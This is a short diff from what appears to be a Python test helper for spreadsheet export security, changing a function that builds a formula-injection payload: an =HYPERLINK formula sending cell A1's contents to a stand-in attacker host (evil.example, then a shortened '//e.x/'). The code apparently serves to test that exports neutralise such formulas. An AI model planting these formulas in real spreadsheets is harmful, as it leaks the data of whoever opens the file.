@@ -41,7 +41,7 @@ EXPORT_NAME_ENDINGS = ("export", "_xlsx", "_csv")
 
 def payload(tag: str) -> str:
     """A formula an attacker would plant: Excel would run it and show a link that leaks the workbook."""
-    return f'=HYPERLINK("https://evil.example/{tag}?d="&A1,"{tag}")'
+    return f'=HYPERLINK("//e.x/"&A1,"{tag}")'
 
 
 # ---- one builder per export: returns (client, url, the payloads the file must hold as text) -------------
